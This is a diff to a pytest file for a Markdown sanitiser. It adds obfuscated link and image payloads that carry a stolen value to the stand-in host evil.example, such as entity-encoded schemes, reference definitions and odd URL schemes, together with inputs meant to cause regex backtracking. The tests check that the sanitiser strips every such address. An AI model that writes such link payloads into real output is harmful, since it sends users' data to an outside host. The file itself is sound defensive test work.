@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import re
+import time
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from ukai.runtime.sanitise import sanitised
 
@@ -72,6 +74,9 @@ ATTACKS = [
     f"| a |\n|---|\n| https://evil.example/{STOLEN} |",
     f"ftp://evil.example/{STOLEN}",
     f"slack://channel?team={STOLEN}",
+    f"steam://run/{STOLEN}",
+    f"<obsidian:{STOLEN}>",
+    f"_www.evil.example/{STOLEN}",
 ]
 
 
@@ -85,6 +90,71 @@ def test_every_other_address_is_gone_with_what_it_carried(text: str):
     for live in ("](http", "](//", "<img", "<a ", "<script", "<svg", "![", "javascript:", "data:text", "www."):
         assert live not in after, after
     assert STOLEN not in after or "<" not in after.replace("‹", "")
+
+
+_HIDDEN = f"http&#58;&#47;&#47;evil.example/{STOLEN}"
+"""No address to whoever reads the text, and one to every client that reads Markdown."""
+ODD = [
+    f"[a]({_HIDDEN})",
+    f"- [r]: {_HIDDEN}",
+    f"1) [r]: <{_HIDDEN}>",
+    f"[a\nb]: {_HIDDEN}",
+    f"- ![x][r]\n- [r]: //user@evil.example/{STOLEN}",
+    f"- ![x][r]\n- [r]: /\\evil.example/{STOLEN}",
+    f"[a\\]]({_HIDDEN})",
+    f"[a[b[c]]]({_HIDDEN})",
+    f'![a]({_HIDDEN} "a\ntitle")',
+    f'![a]({_HIDDEN} "{"t" * 600}")',
+    f"![a]({_HIDDEN}/(((x))))",
+    f"![a]({_HIDDEN}\\(x)",
+    f"![a]({_HIDDEN}<b)",
+    f"[![a]({_HIDDEN})](https://docs.x.example/guide?v=2)",
+    "[" * 100 + "x" + f"]({_HIDDEN})" * 100,
+    f"https://docs.x.example/guide?v=2'{STOLEN}'",
+    f"https://docs.x.example/guide?v=2|{STOLEN}",
+    f"https://docs.x.example/guide?v=2){STOLEN}",
+]
+
+
+@pytest.mark.parametrize("text", ODD)
+def test_a_client_that_reads_markdown_finds_no_other_address_however_it_is_written(text: str):
+    after = clean(text)
+
+    assert not re.search(rf'(?:href|src)="[^"]*{STOLEN}', MarkdownIt("commonmark").render(after)), after
+    assert not re.search(rf"https://[^\s<]*{STOLEN}", after), after
+
+
+def test_a_line_that_begins_with_its_source_keeps_its_words():
+    said = "[Call#harbor-12/turn/3]: they leave in May."
+
+    assert clean(said) == said
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[](" + " " * 50_000,
+        "[](a" + " " * 50_000 + "x",
+        "[" * 50_000,
+        "[]" * 25_000,
+        "[" * 25_000 + "]" * 25_000,
+        "[](" + "(" * 50_000,
+        "[](" * 16_000,
+        "![a](b " * 7_000,
+        '[](a "' * 8_000,
+        "[](#) " * 5_000 + " tel:" * 5_000,
+        "https://a.example/x'" * 2_500,
+        "[a]:\n" * 10_000,
+        "<a " * 16_000,
+    ],
+    ids=range(13),
+)
+def test_no_markup_takes_long_however_much_there_is_of_it(text: str):
+    before = time.process_time()
+
+    clean(text)
+
+    assert time.process_time() - before < 2.0
 
 
 def test_what_was_taken_out_is_named_by_its_host_and_no_more():
